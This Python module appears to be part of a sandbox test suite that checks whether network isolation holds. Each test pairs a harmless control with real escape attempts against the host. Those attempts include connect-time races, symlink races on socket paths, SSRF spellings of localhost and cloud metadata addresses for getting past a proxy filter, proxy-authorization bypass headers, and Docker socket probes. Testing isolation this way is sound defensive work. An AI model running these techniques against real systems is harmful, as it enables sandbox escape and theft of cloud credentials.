"""Reaching addresses outside by a socket. Controls use a pair of sockets that are connected to each other, which
every tier allows."""

import base64
import ctypes
import fcntl
import os
import socket
import struct
import threading
import time
import urllib.parse

from attack import attempt, got, main


def pair():
    """Proves that sockets as such work here."""
    first, second = socket.socketpair()
    first.send(b"x")
    got(second.recv(1))


def connects(family, kind, address, data=b"canary"):
    """Connects and sends; says when either worked."""
    try:
        with socket.socket(family, kind) as end:
            end.settimeout(1)
            end.connect(address)
            if kind == socket.SOCK_STREAM:
                got(f"connected to {address}")
            end.send(data)
    except socket.timeout:
        got(f"{address}: packets go out without an answer")
    except OSError:
        pass


def connecting_to_a_port_of_the_host(evil, *ports):
    if not evil:
        pair()
    for port in map(int, ports):
        for family, address in ((socket.AF_INET, ("127.0.0.1", port)), (socket.AF_INET6, ("::1", port)),
                                (socket.AF_INET, ("0.0.0.0", port)), (socket.AF_INET6, ("::ffff:127.0.0.1", port))):
            connects(family, socket.SOCK_STREAM, address)


connecting_to_the_service_itself = connecting_to_a_port_of_the_host


def ipv4(host, port):
    """An address as the kernel reads it (ip(7))."""
    return struct.pack("=HHI8x", socket.AF_INET, socket.htons(port), struct.unpack("=I", socket.inet_aton(host))[0])


def leaving_by_other_ways_than_connecting(evil, *ports):
    """Where another process makes connections to the proxy, each other way to a peer: data with the first packet, a socket
    that the proxy is connected to, an address that changes while it is judged, other words for the same."""
    if not evil:
        pair()
        return
    fastopen, unspecified = 0x20000000, struct.pack("=H14x", socket.AF_UNSPEC)
    libc = ctypes.CDLL(None, use_errno=True)
    connect = lambda end, address: libc.connect(end.fileno(), address, len(address)) == 0
    for port in map(int, ports):
        outside, proxy = ("127.0.0.1", port), ("127.0.0.1", 3128)
        for kind, protocol in ((socket.SOCK_STREAM, 0), (socket.SOCK_STREAM, 262), (socket.SOCK_STREAM, 132)):
            for option in (23, 30):
                for act in (lambda: end.sendto(b"out", fastopen, outside), lambda: end.sendmsg([b"out"], [], fastopen, outside),
                            lambda: end.sendto(b"out", outside), lambda: end.sendmsg([b"out"], [], 0, outside),
                            lambda: (end.connect(outside), end.send(b"out"))):
                    end = attempt(socket.socket, socket.AF_INET, kind, protocol)
                    if end is None:
                        continue
                    end.settimeout(1)
                    attempt(end.setsockopt, socket.IPPROTO_TCP, option, 1)
                    attempt(act)
        # Sockets that are, or were, connected to the proxy.
        for before in (unspecified, b""):
            end = attempt(socket.socket)
            if end is None or not attempt(lambda: end.connect(proxy) or True):
                continue
            copy = socket.socket(fileno=os.dup(end.fileno()))
            for each in (end, copy):
                if before:
                    connect(each, before)
                for words in (ipv4(*outside), ipv4(*outside) + b"x" * 100, ipv4("0.0.0.0", port)):
                    if connect(each, words) and attempt(each.getpeername) == outside:
                        got("a socket of the proxy's was connected again")
        # Judged as the proxy's, used as another's.
        address, over = ctypes.create_string_buffer(ipv4(*proxy), 16), threading.Event()

        def change():
            while not over.is_set():
                address.raw = ipv4(*outside)
                address.raw = ipv4(*proxy)

        thread = threading.Thread(target=change)
        thread.start()
        for _ in range(100):
            with socket.socket() as end:
                if libc.connect(end.fileno(), address, 16) == 0 and attempt(end.getpeername) == outside:
                    got("the address changed under the judge")
        over.set()
        thread.join()


def turning_a_connection_to_oneself_elsewhere(evil, *ports):
    """Has a server and a client of its own, and looks for a way from their sockets, or from their addresses, to the host."""
    server, bound = socket.socket(), socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    client = socket.create_connection(server.getsockname(), 5)
    end = server.accept()[0]
    if not evil:
        client.send(b"x")
        got(end.recv(1))
        return
    bound.bind(("0.0.0.0", 0))
    libc, own, fastopen = ctypes.CDLL(None, use_errno=True), server.getsockname()[0], 0x20000000
    connect = lambda one, address: libc.connect(one.fileno(), address, len(address)) == 0
    beside = socket.inet_ntoa(struct.pack("!I", struct.unpack("!I", socket.inet_aton(own))[0] ^ 1))
    for port in map(int, ports):
        outside = [(at, port) for at in ("127.0.0.1", "0.0.0.0", own, beside)]
        for address in outside:
            connects(socket.AF_INET, socket.SOCK_STREAM, address)
            connects(socket.AF_INET6, socket.SOCK_STREAM, ("::ffff:" + address[0], port))
        for one in (server, bound, client, end, socket.socket()):
            one.settimeout(1)
            # An interface, its number, transparency, repair, the way by an address, the first packet with data.
            for level, option, value in ((1, 25, b"lo"), (1, 25, b"eth0"), (1, 62, 1), (1, 36, 1), (0, 19, 1), (41, 75, 1), (6, 19, 1), (6, 30, 1),
                                         (0, 4, bytes([131, 7, 4]) + socket.inet_aton(own) + b"\0"), (41, 1, socket.AF_INET)):
                attempt(one.setsockopt, level, option, value)
            for address in outside:
                attempt(one.sendto, b"out", fastopen, address)
                attempt(one.sendmsg, [b"out"], [], fastopen, address)
                if one is not client and one is not end:
                    attempt(one.sendto, b"out", socket.MSG_NOSIGNAL, address)
                connect(one, struct.pack("=H14x", socket.AF_UNSPEC))
                if connect(one, ipv4(*address)) and (attempt(one.getpeername) or ("", 0))[1] == port:
                    got(f"connected to {address}")
        # The host has this port at every address.
        late = socket.socket()
        late.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        late.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        if own != "127.0.0.1" and attempt(lambda: late.bind((own, port)) or True) and attempt(lambda: late.listen() or True):
            got(f"listens at {own}:{port} beside the host")
        # A server that has gone was at this address, too.
        server.close()
        for _ in range(50):
            connects(socket.AF_INET, socket.SOCK_STREAM, (own, port))


# What Linux puts into every network: beside `lo` one end of each kind of tunnel that is built in or loaded, which has no
# address (`fb_tunnels_only_for_init_net`, Documentation/admin-guide/sysctl/net.rst).
IN_EVERY_NETWORK = {b"lo", b"sit0", b"tunl0", b"gre0", b"gretap0", b"erspan0", b"ip_vti0", b"ip6tnl0", b"ip6_vti0", b"ip6gre0"}


def learning_the_addresses_of_the_host(evil):
    """Asks a socket for the interfaces of the machine, their addresses and routes (netdevice(7))."""
    if not evil:
        pair()
        return
    end = attempt(socket.socket)
    if end is None:
        return
    for index in range(1, 32):
        name = attempt(fcntl.ioctl, end, 0x8910, struct.pack("16xi20x", index))
        if name and name[:16].strip(b"\0") not in IN_EVERY_NETWORK:
            got(name[:16])
    for name in (b"eth0", b"ens3", b"enp0s3", b"docker0", b"wlan0"):
        for command in (0x8915, 0x8927, 0x8919, 0x891B):
            told = attempt(fcntl.ioctl, end, command, struct.pack("16s24x", name))
            if told:
                got(f"{name}: {told[16:24]}")


def sending_datagrams_to_the_host(evil, *ports):
    if not evil:
        pair()
    for port in map(int, ports):
        for host in ("127.0.0.1", "0.0.0.0"):
            end = attempt(socket.socket, socket.AF_INET, socket.SOCK_DGRAM)
            if end is not None:
                attempt(end.sendto, b"canary", (host, port))


def connecting_to_abstract_sockets(evil, *names):
    if not evil:
        pair()
    for name in names:
        connects(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + name)


def connecting_to_sockets_with_a_path(evil, *paths):
    if not evil:
        pair()
    for path in paths:
        connects(socket.AF_UNIX, socket.SOCK_STREAM, path)
    for path in ("/run/docker.sock", "/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket",
                 "/run/systemd/private", "/run/systemd/notify", "/dev/log") if evil else ():
        connects(socket.AF_UNIX, socket.SOCK_STREAM, path)
        connects(socket.AF_UNIX, socket.SOCK_DGRAM, path)


def reaching_a_socket_with_a_path_by_detours(evil, *paths):
    """Names that change while they are judged, links, other directories, and sockets that have become others."""
    if not evil:
        pair()
        return
    def tries(path):
        try:
            with socket.socket(socket.AF_UNIX) as end:
                end.connect(path)
                got(f"connected to {path}")
        except OSError:
            pass
        # The host looks for the name: in an own directory it may be made.
        try:
            with socket.socket(socket.AF_UNIX) as end:
                end.bind(os.path.join(os.path.dirname(path), "made-here"))
        except OSError:
            pass
    for path in paths:
        directory, name = os.path.split(path)
        for link, target in (("to-socket", path), ("to-directory", directory), ("own", ".")):
            try:
                os.symlink(target, link)
            except OSError:
                pass
        there = os.open(".", os.O_RDONLY)
        for way in ("to-socket", "to-directory/" + name, os.path.relpath(path), "/proc/self/cwd/to-socket", f"/proc/self/fd/{there}/to-socket",
                    "/tmp/../" + path, os.environ.get("TMPDIR", "/tmp") + "/../../../../../../../.." + path, "./to-directory/../" + os.path.relpath(path)):
            tries(way)
        # A descriptor of the directory, from which a program could work.
        try:
            os.chdir("to-directory")
            tries("./" + name)
        except OSError:
            pass
        # What is on this socket's number while its name is judged.
        import threading
        enough = threading.Event()
        def swap():
            number = 0
            while not enough.is_set():
                try:
                    os.symlink("to-directory" if number % 2 else "own", f"n{number}")
                    os.rename(f"n{number}", "way")
                except OSError:
                    pass
                number += 1
        thread = threading.Thread(target=swap)
        thread.start()
        for _ in range(200):
            tries("way/" + name)
        enough.set()
        thread.join()


def sending_from_a_pair_to_a_socket_with_a_path(evil, *paths):
    """An end of a pair of datagram sockets can be sent from, or connected, to any other."""
    if not evil:
        pair()
    for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
        for path in paths:
            try:
                first, second = socket.socketpair(socket.AF_UNIX, kind)
            except OSError:
                continue
            for act in (lambda: first.sendto(b"out", path), lambda: first.sendmsg([b"out"], [], 0, path),
                        lambda: (second.connect(path), second.send(b"out"))):
                try:
                    act()
                except OSError:
                    pass


def reaching_the_metadata_address(evil):
    if not evil:
        pair()
        return
    for address in ("169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16"):
        connects(socket.AF_INET, socket.SOCK_STREAM, (address, 80))
    connects(socket.AF_INET6, socket.SOCK_STREAM, ("fd00:ec2::254", 80))


def opening_unusual_sockets(evil):
    """Raw, packet, netlink, hypervisor and all other families."""
    if not evil:
        pair()
        return
    for family, kind, protocol in (
        (socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_INET6, socket.SOCK_RAW, 58), (socket.AF_INET, socket.SOCK_DGRAM, 1),
        (17, socket.SOCK_RAW, 3), (17, socket.SOCK_DGRAM, 3), (40, socket.SOCK_STREAM, 0), (40, socket.SOCK_DGRAM, 0),
        (38, socket.SOCK_SEQPACKET, 0), (31, socket.SOCK_RAW, 1), (29, socket.SOCK_RAW, 1), (15, socket.SOCK_RAW, 2),
        (socket.AF_INET, socket.SOCK_STREAM, 262), (socket.AF_INET, socket.SOCK_STREAM, 132), (44, socket.SOCK_RAW, 0),
        (21, socket.SOCK_SEQPACKET, 0), (30, socket.SOCK_STREAM, 0), (24, socket.SOCK_DGRAM, 0), (9, socket.SOCK_SEQPACKET, 0),
        *((16, socket.SOCK_RAW, protocol) for protocol in (0, 4, 6, 9, 12, 15, 16)),
    ):
        end = attempt(socket.socket, family, kind, protocol)
        if end is not None:
            got(f"family {family}, kind {kind}, protocol {protocol}")


def through_the_proxy(request):
    """Sends a request to the proxy of the environment and returns what comes back."""
    proxy = urllib.parse.urlsplit(os.environ.get("HTTP_PROXY") or os.environ["http_proxy"])
    token = base64.b64encode(f"{proxy.username or ''}:{proxy.password or ''}".encode()).decode()
    with socket.create_connection((proxy.hostname, proxy.port), 5) as end:
        end.settimeout(5)
        end.sendall(request.replace("TOKEN", f"Proxy-Authorization: Basic {token}").encode())
        answer = b""
        while True:
            piece = attempt(end.recv, 65536)
            if not piece:
                return answer
            answer += piece
            if b"\r\n\r\n" in answer and b" 200 " in answer[:16]:
                attempt(end.sendall, b"GET / HTTP/1.0\r\n\r\n")


def spellings(port):
    """Addresses of this machine and of metadata services, as a careless filter does not know them."""
    for host in ("127.0.0.1", "localhost", "LOCALHOST.", "127.1", "0x7f.1", "0x7f000001", "2130706433", "017700000001",
                 "0", "0.0.0.0", "[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::127.0.0.1]",
                 "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "127.0.0.1.", "127.00.0.1", "127.0.0.1%00.example.com",
                 "localtest.me", "127.0.0.1.nip.io", "user@127.0.0.1"):
        yield f"{host}:{port}"
    for host in ("169.254.169.254", "metadata.google.internal", "100.100.100.200", "[fd00:ec2::254]", "168.63.129.16",
                 "0xa9fea9fe", "2852039166", "169.254.43518", "[::ffff:a9fe:a9fe]", "metadata"):
        yield f"{host}:80"


def reaching_the_host_through_the_proxy(evil, *ports):
    """That the proxy refuses an address at a port which it lets pass is the control; an answer of 200 is the attack."""
    if not evil:
        host = f"127.0.0.1:{ports[0]}"
        answer = through_the_proxy(f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\nTOKEN\r\n\r\n")
        if b" 403 " in answer[:16] and b"address" in answer:
            got(answer[:16])
        return
    for port in ports:
        for place in spellings(port):
            for request in (f"CONNECT {place} HTTP/1.1\r\nHost: {place}\r\nTOKEN\r\n\r\n",
                            f"GET http://{place}/healthz HTTP/1.1\r\nHost: {place}\r\nTOKEN\r\n\r\n",
                            f"GET http://{place}/healthz HTTP/1.1\r\nHost: example.com\r\nTOKEN\r\n\r\n"):
                answer = attempt(through_the_proxy, request) or b""
                if b" 200 " in answer[:16]:
                    got(f"{place}: {answer[:60]}")


def using_the_proxy_without_a_token(evil):
    """A connection without a token may not count as any user's run."""
    reaching_the_host_through_the_proxy(False, 80) if not evil else None
    for header in ("X: y", "Proxy-Authorization: Basic Og==", "Proxy-Authorization: Basic YWRtaW46",
                   "Proxy-Authorization: Bearer x", "Authorization: TOKEN") if evil else ():
        answer = through_the_proxy(f"CONNECT example.com:443 HTTP/1.1\r\nHost: example.com\r\n{header}\r\n\r\n")
        if b" 407 " not in answer[:16]:
            got(answer[:100])


def listening_for_others(evil, *ports):
    """Listens for a while; the caller tries to connect."""
    if not evil:
        pair()
        return
    ends = []
    for family in (socket.AF_INET, socket.AF_INET6):
        for port in map(int, ports):
            end = attempt(socket.socket, family, socket.SOCK_STREAM)
            if end is not None and attempt(lambda: end.bind(("", port)) or True):
                attempt(lambda: end.listen())
                ends.append(end)
    open("listening", "w").close()
    for _ in range(100):
        if os.path.exists("enough"):
            break
        time.sleep(0.02)


def using_descriptors_that_were_left_open(evil):
    """The control opens one and finds it; the attack finds those that the payload did not open."""
    opened = {os.dup(1)} if not evil else set()
    for descriptor in range(3, 1024):
        facts = attempt(os.fstat, descriptor)
        if facts:
            got(f"{descriptor}: mode {facts.st_mode:o}")
    for descriptor in range(3):
        facts = os.fstat(descriptor)
        if facts.st_mode & 0o170000 not in (0o010000, 0o020000, 0o100000):
            got(f"{descriptor} is no pipe: {facts.st_mode:o}")


if __name__ == "__main__":
    main(globals())
